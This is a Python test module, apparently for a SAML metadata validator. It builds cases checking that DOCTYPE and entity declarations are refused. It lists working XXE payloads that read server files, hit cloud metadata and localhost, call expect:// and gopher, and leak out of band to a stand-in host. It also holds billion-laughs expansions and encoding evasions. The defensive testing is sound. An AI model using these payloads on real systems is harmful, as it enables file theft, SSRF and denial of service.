"""DOCTYPE and entities: whatever a document type could fetch, define or multiply is refused before it does."""

from collections.abc import Iterator

from ..saml.entities import aggregate, changed, idp, sp
from .case import Case, bad, good, in_idp, refused

_DECLARATION = '<?xml version="1.0" encoding="UTF-8"?>'
_FILE = '"file:///etc/passwd"'


def _with(doctype: str, use: str = "Region Norrvik") -> str:
    """The IdP with a document type, and an organisation whose name uses it."""
    named = changed(idp(), "Region Norrvik</md:OrganizationName>", f"{use}</md:OrganizationName>")
    return changed(named, _DECLARATION, _DECLARATION + doctype)


def _laughs(depth: int, width: int) -> str:
    references = [f"&l{n};" * width for n in range(depth)]
    return "<!ENTITY l0 'ha'>" + "".join(f"<!ENTITY l{n} '{r}'>" for n, r in enumerate(references, 1))


# Name: (document type, what the organisation's name says).
_TYPES = {
    "a bare DOCTYPE": ("<!DOCTYPE md:EntityDescriptor>", "Region Norrvik"),
    "an empty internal subset": ("<!DOCTYPE md:EntityDescriptor []>", "Region Norrvik"),
    "a DOCTYPE of another element": ("<!DOCTYPE html>", "Region Norrvik"),
    "a DOCTYPE of HTML 4": (
        '<!DOCTYPE HTML PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd">',
        "Region Norrvik",
    ),
    "two lines of DOCTYPE": ("<!DOCTYPE\n\n\tx\n>", "Region Norrvik"),
    "an entity that is text": ('<!DOCTYPE x [<!ENTITY n "Region Ond">]>', "&n;"),
    "an entity that nobody uses": ('<!DOCTYPE x [<!ENTITY n "Region Ond">]>', "Region Norrvik"),
    "an entity that is an element": ('<!DOCTYPE x [<!ENTITY n "<md:Company>Ond</md:Company>">]>', "&n;"),
    "an entity of an escaped element": ('<!DOCTYPE x [<!ENTITY n "&#60;b>Ond&#60;/b>">]>', "&n;"),
    "an entity that is empty": ('<!DOCTYPE x [<!ENTITY n "">]>', "Region&n; Norrvik"),
    "an entity for lt": ('<!DOCTYPE x [<!ENTITY lt "&#38;#60;">]>', "Region &lt;Norrvik"),
    "an entity for amp that lies": ('<!DOCTYPE x [<!ENTITY amp "och">]>', "Vård &amp; omsorg"),
    "an entity that refers to itself": ('<!DOCTYPE x [<!ENTITY n "&n;">]>', "&n;"),
    "two entities that refer to each other": ('<!DOCTYPE x [<!ENTITY a "&b;"><!ENTITY b "&a;">]>', "&a;"),
    "a file of the server": (f"<!DOCTYPE x [<!ENTITY n SYSTEM {_FILE}>]>", "&n;"),
    "a file of a Windows server": ('<!DOCTYPE x [<!ENTITY n SYSTEM "file:///c:/windows/win.ini">]>', "&n;"),
    "a share": (r'<!DOCTYPE x [<!ENTITY n SYSTEM "\\ond.example\share\x">]>', "&n;"),
    "a device that never ends": ('<!DOCTYPE x [<!ENTITY n SYSTEM "file:///dev/random">]>', "&n;"),
    "a process's environment": ('<!DOCTYPE x [<!ENTITY n SYSTEM "file:///proc/self/environ">]>', "&n;"),
    "a relative file": ('<!DOCTYPE x [<!ENTITY n SYSTEM "../settings.py">]>', "&n;"),
    "the cloud's own metadata": ('<!DOCTYPE x [<!ENTITY n SYSTEM "http://169.254.169.254/latest/">]>', "&n;"),
    "the server's own port": ('<!DOCTYPE x [<!ENTITY n SYSTEM "http://127.0.0.1:8000/admin/">]>', "&n;"),
    "an address over FTP": ('<!DOCTYPE x [<!ENTITY n SYSTEM "ftp://ond.example/x">]>', "&n;"),
    "a PHP filter": (
        '<!DOCTYPE x [<!ENTITY n SYSTEM "php://filter/convert.base64-encode/resource=index.php">]>',
        "&n;",
    ),
    "a command by expect": ('<!DOCTYPE x [<!ENTITY n SYSTEM "expect://id">]>', "&n;"),
    "a file in a JAR": ('<!DOCTYPE x [<!ENTITY n SYSTEM "jar:http://ond.example/x.jar!/x">]>', "&n;"),
    "Java's netdoc": ('<!DOCTYPE x [<!ENTITY n SYSTEM "netdoc:/etc/passwd">]>', "&n;"),
    "gopher": ('<!DOCTYPE x [<!ENTITY n SYSTEM "gopher://127.0.0.1:6379/_INFO">]>', "&n;"),
    "a data address": ('<!DOCTYPE x [<!ENTITY n SYSTEM "data:text/plain,Ond">]>', "&n;"),
    "a public identifier": (f'<!DOCTYPE x [<!ENTITY n PUBLIC "-//OND//X" {_FILE}>]>', "&n;"),
    "an external DTD over https": ('<!DOCTYPE x SYSTEM "https://ond.example/x.dtd">', "Region Norrvik"),
    "an external DTD on disk": ('<!DOCTYPE x SYSTEM "file:///usr/share/xml/x.dtd">', "Region Norrvik"),
    "an external and an internal subset": ('<!DOCTYPE x SYSTEM "x.dtd" [<!ENTITY n "Ond">]>', "&n;"),
    "a parameter entity": (f"<!DOCTYPE x [<!ENTITY % p SYSTEM {_FILE}>%p;]>", "Region Norrvik"),
    "a parameter entity within": ("<!DOCTYPE x [<!ENTITY % p '<!ENTITY n \"Ond\">'>%p;]>", "&n;"),
    "an out-of-band leak": (
        f"<!DOCTYPE x [<!ENTITY % f SYSTEM {_FILE}><!ENTITY % d SYSTEM 'http://ond.example/d'>%d;%leak;]>",
        "Region Norrvik",
    ),
    "a local DTD redefined": (
        "<!DOCTYPE x [<!ENTITY % l SYSTEM 'file:///usr/share/yelp/dtd/docbookx.dtd'>"
        "<!ENTITY % ISOamso '&#x25; f'>%l;]>",
        "Region Norrvik",
    ),
    "an unknown parameter entity": ("<!DOCTYPE x [%okand;]>", "&n;"),
    "an unparsed entity": (
        "<!DOCTYPE x [<!NOTATION g SYSTEM 'gif'><!ENTITY n SYSTEM 'x.gif' NDATA g>]>",
        "Region Norrvik",
    ),
    "a notation": ("<!DOCTYPE x [<!NOTATION n PUBLIC 'x'>]>", "Region Norrvik"),
    "a default attribute": (
        "<!DOCTYPE x [<!ATTLIST md:SPSSODescriptor WantAssertionsSigned CDATA 'false'>]>",
        "Region Norrvik",
    ),
    "an attribute made an ID": ("<!DOCTYPE x [<!ATTLIST md:EntityDescriptor entityID ID #IMPLIED>]>", "Region Norrvik"),
    "a default namespace by DTD": (
        "<!DOCTYPE x [<!ATTLIST md:EntityDescriptor xmlns CDATA #FIXED 'urn:x'>]>",
        "Region Norrvik",
    ),
    "an element declared": ("<!DOCTYPE x [<!ELEMENT md:EntityDescriptor ANY>]>", "Region Norrvik"),
    "a comment in the subset": ("<!DOCTYPE x [<!-- inget -->]>", "Region Norrvik"),
    "an instruction in the subset": ("<!DOCTYPE x [<?php echo 1 ?>]>", "Region Norrvik"),
    "a DOCTYPE after a comment": ("<!-- export --><!DOCTYPE x [<!ENTITY n 'Ond'>]>", "&n;"),
    "a DOCTYPE after many comments": ("<!-- x -->\n" * 1000 + "<!DOCTYPE x [<!ENTITY n 'Ond'>]>", "&n;"),
    "a DOCTYPE after a comment that mentions one": ("<!-- <!DOCTYPE y> --><!DOCTYPE x>", "Region Norrvik"),
    "a DOCTYPE after ten thousand blank lines": ("\n" * 10_000 + "<!DOCTYPE x>", "Region Norrvik"),
    "two DOCTYPEs": ("<!DOCTYPE x><!DOCTYPE y>", "Region Norrvik"),
    "a billion laughs": (f"<!DOCTYPE x [{_laughs(9, 10)}]>", "&l9;"),
    "laughs that double": (f"<!DOCTYPE x [{_laughs(40, 2)}]>", "&l40;"),
    "laughs by parameter entities": (
        "<!DOCTYPE x [<!ENTITY % a 'ha'><!ENTITY % b '%a;%a;'><!ENTITY % c '%b;%b;'>%c;]>",
        "Region Norrvik",
    ),
    "a quadratic blow-up": (f"<!DOCTYPE x [<!ENTITY n '{'x' * 50_000}'>]>", "&n;" * 1000),
    "ten thousand entities": (
        "<!DOCTYPE x [" + "".join(f"<!ENTITY e{n} 'x'>" for n in range(10_000)) + "]>",
        "&e9999;",
    ),
    "a subset that never ends": ("<!DOCTYPE x [<!ENTITY n 'x'>", "Region Norrvik"),
}
_MALFORMED = {
    "doctype in small letters": '<!doctype x [<!ENTITY n "Ond">]>',
    "a DOCTYPE without a name": "<!DOCTYPE>",
    "an ENTITY without a DOCTYPE": '<!ENTITY n "Ond">',
    "an ELEMENT without a DOCTYPE": "<!ELEMENT md:EntityDescriptor ANY>",
    "a space in the DOCTYPE": "<! DOCTYPE x>",
    "CDATA before the document": "<![CDATA[<!DOCTYPE x>]]>",
    "a conditional section": '<![INCLUDE[<!ENTITY n "Ond">]]>',
    "a DOCTYPE by reference": "&#60;!DOCTYPE x&#62;",
    "a DOCTYPE in UTF-7 without a word of it": "+ADwAIQ-DOCTYPE x+AD4-",
}
_REFERENCES = {
    "nbsp in a text": ("Region Norrvik</md:OrganizationName>", "Region&nbsp;Norrvik</md:OrganizationName>"),
    "ouml in a text": (">Kim<", ">Bj&ouml;rn<"),
    "an unknown entity in an attribute": ("https://idp.vard.example/sso", "https://&vard;/sso"),
    "an unknown entity in the entityID": ('entityID="', 'entityID="&x;'),
    "an unknown entity in the certificate": ("<ds:X509Certificate>", "<ds:X509Certificate>&nyckel;"),
    "a predefined name in capitals": (">Kim<", ">Kim &AMP; Eva<"),
    "an unknown entity between elements": ("<md:Extensions>", "<md:Extensions>&fil;"),
}
_NO_REFERENCES = {
    "an ampersand by itself": ">Kim & Eva<",
    "a reference without its end": ">Kim &amp Eva<",
    "a parameter reference in an attribute name": "&%p;",
    "character 0 by reference": ">Kim&#0;<",
    "a surrogate by reference": ">Kim&#xD800;<",
    "a backspace by reference": ">Kim&#8;<",
    "U+FFFE by reference": ">Kim&#xFFFE;<",
    "a number beyond Unicode": ">Kim&#x110000;<",
    "a number beyond all numbers": ">Kim&#99999999999999999999;<",
    "a reference with a capital X": ">Kim&#X41;<",
}


def cases() -> Iterator[Case]:
    for name, (doctype, use) in _TYPES.items():
        yield refused(name, "MD-XML-002", _with(doctype, use))
    for name, start in _MALFORMED.items():
        yield refused(name, "MD-XML-001", _with(start))
    for name, (old, new) in _REFERENCES.items():
        yield refused(name, "MD-XML-003", in_idp(old, new))
    for name, new in _NO_REFERENCES.items():
        yield refused(name, "MD-XML-001", in_idp(">Kim<", new))
    yield from _elsewhere()
    yield from _encoded()


def _elsewhere() -> Iterator[Case]:
    """A DOCTYPE in another place or another document than one expects."""
    yield refused(
        "a DOCTYPE inside the document", "MD-XML-001", in_idp("<md:Extensions>", "<!DOCTYPE x><md:Extensions>")
    )
    yield refused("a DOCTYPE after the document", "MD-XML-001", idp() + "<!DOCTYPE x>")
    yield refused("a DOCTYPE in an attribute", "MD-XML-001", in_idp('entityID="', 'entityID="<!DOCTYPE x>'))
    yield refused("a DOCTYPE without a declaration", "MD-XML-002", "<!DOCTYPE x>" + sp().partition("?>")[2])
    yield refused("a DOCTYPE before the declaration", "MD-XML-002", "<!DOCTYPE x>" + idp())
    yield refused(
        "a DOCTYPE of a standalone document",
        "MD-XML-002",
        _with("<!DOCTYPE x>").replace("?>", " standalone='yes'?>", 1),
    )
    yield refused("a DOCTYPE of an aggregate", "MD-XML-002", b"<!DOCTYPE x>" + aggregate(idp(), sp()))
    yield refused("a DOCTYPE and no document", "MD-XML-002", '<!DOCTYPE x [<!ENTITY n "x">]>')
    yield refused("an instruction before a DOCTYPE", "MD-XML-006", _with('<?xml-stylesheet href="x"?><!DOCTYPE x>'))
    yield bad("a DOCTYPE in CDATA", "MD-XML-030", in_idp(">Kim<", "><![CDATA[<!DOCTYPE x [<!ENTITY n 'x'>]>]]><"))
    yield good("a DOCTYPE in a comment", _with("<!-- <!DOCTYPE x [<!ENTITY n 'Ond'>]> -->"))
    yield good("the word DOCTYPE in a text", in_idp("Inloggning för vårdpersonal", "DOCTYPE ENTITY SYSTEM"))


def _encoded() -> Iterator[Case]:
    """A DOCTYPE that only shows in another encoding."""
    document = _with('<!DOCTYPE x [<!ENTITY n "Ond">]>', "&n;")
    for name in ("UTF-16", "UTF-16-LE", "UTF-16-BE", "UTF-32", "UTF-32-LE", "UTF-32-BE"):
        yield refused(f"a DOCTYPE in {name}", "MD-XML-004", document.encode(name))
    hidden = document.replace("<!DOCTYPE", "+ADwAIQ-DOCTYPE").replace("UTF-8", "UTF-7")
    yield refused("a DOCTYPE in declared UTF-7", "MD-XML-004", hidden)
    for name in ("IBM037", "EBCDIC-CP-SE", "UTF-7", "UCS-2", "x-mac-roman"):
        yield refused(f"a DOCTYPE in a document said to be {name}", "MD-XML-004", document.replace("UTF-8", name, 1))
    yield refused("a DOCTYPE in EBCDIC", "MD-XML-004", document.encode("cp1140", "replace"))
    yield refused("a DOCTYPE behind a byte order mark", "MD-XML-002", "\ufeff" + document)
